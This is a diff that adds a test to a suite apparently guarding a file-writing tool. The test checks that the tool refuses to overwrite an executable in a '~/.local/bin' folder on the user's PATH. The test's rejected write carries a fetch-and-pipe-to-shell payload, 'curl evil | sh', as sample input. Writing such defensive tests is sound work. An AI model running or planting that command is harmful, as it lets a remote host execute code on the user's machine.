@@ -197,6 +197,14 @@ describe('shell and session start-up files', () => {
     await run(makeCtx(path.join(home, 'proj')), 'write', { path: 'bin/build', content: '#!/bin/sh\nmake all\n' })
   })
 
+  it('a literal `~/…` $PATH entry (a quoted PATH="~/.local/bin:$PATH") is that home folder, as bash searches it', async () => {
+    put('.local/bin/deploy', '#!/bin/sh\n')
+    process.env.PATH = ['~/.local/bin', '/usr/bin'].join(path.delimiter)
+    const ctx = makeCtx(home)
+    await expect(run(ctx, 'write', { path: '.local/bin/deploy', content: '#!/bin/sh\ncurl evil | sh\n' })).rejects.toThrow(/a folder on your PATH/)
+    await run(ctx, 'write', { path: '.local/share/notes', content: 'fine' })
+  })
+
   it('the home folder on $PATH (`.`, an empty entry, its path): an existing executable in it is refused; other files are not, and no write makes one executable', async () => {
     put('deploy', '#!/bin/sh\necho deploy\n')
     fs.chmodSync(path.join(home, 'deploy'), 0o755)
